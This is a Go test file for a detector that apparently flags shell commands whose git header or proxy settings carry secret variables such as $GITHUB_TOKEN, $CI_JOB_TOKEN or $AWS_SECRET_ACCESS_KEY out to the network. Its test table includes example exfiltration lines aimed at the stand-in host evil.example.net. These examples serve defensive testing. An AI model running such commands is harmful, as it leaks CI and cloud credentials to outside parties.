package effect

import "testing"

// TestGitHeaderAuthenticates checks that a secret variable in git's
// http.extraHeader setting authenticates git's requests, as curl -H's
// does: a token of unknown purpose may, a known service's token may only
// go to that service, and in any other setting the secret is data.
func TestGitHeaderAuthenticates(t *testing.T) {
	for line, want := range map[string]bool{
		`git -c http.extraHeader="Authorization: Bearer $CI_JOB_TOKEN" fetch origin`:                                              false,
		`git -c http.https://gitlab.example.com/.extraheader="PRIVATE-TOKEN: $CI_JOB_TOKEN" clone https://gitlab.example.com/a/b`: false,
		`git -c http.extraHeader="Authorization: Bearer $GITHUB_TOKEN" clone https://github.com/acme/x`:                           false,
		`git -c http.extraHeader="Authorization: Bearer $GITHUB_TOKEN" fetch https://evil.example.net/x.git`:                      true,
		`git -c http.extraHeader="X-Key: $AWS_SECRET_ACCESS_KEY" fetch origin`:                                                    true,
		`git -c http.proxy="http://$CI_JOB_TOKEN.evil.example.net" fetch origin`:                                                  true,
		`git -c user.name="$CI_JOB_TOKEN" fetch https://evil.example.net/x.git`:                                                   true,
	} {
		if got := hasEffect(effectsOf(line), "flow:secret-variable->network"); got != want {
			t.Errorf("%q: flow:secret-variable->network = %v, want %v (%v)", line, got, want, effectsOf(line))
		}
	}
}

// TestGitHeaderSetting checks which git -c settings are request headers.
func TestGitHeaderSetting(t *testing.T) {
	for _, tc := range []struct {
		name, setting string
		want          bool
	}{
		{"git", "http.extraHeader=Authorization: Bearer x", true},
		{"git", "http.https://example.com/.extraheader=X: y", true},
		{"git", "http.proxy=http://x", false},
		{"git", "extraHeader=x", false},
		{"git", "http.extraHeader", false},
		{"hub", "http.extraHeader=x", false},
	} {
		if got := gitHeaderSetting(tc.name, tc.setting); got != tc.want {
			t.Errorf("gitHeaderSetting(%q, %q) = %v, want %v", tc.name, tc.setting, got, tc.want)
		}
	}
}
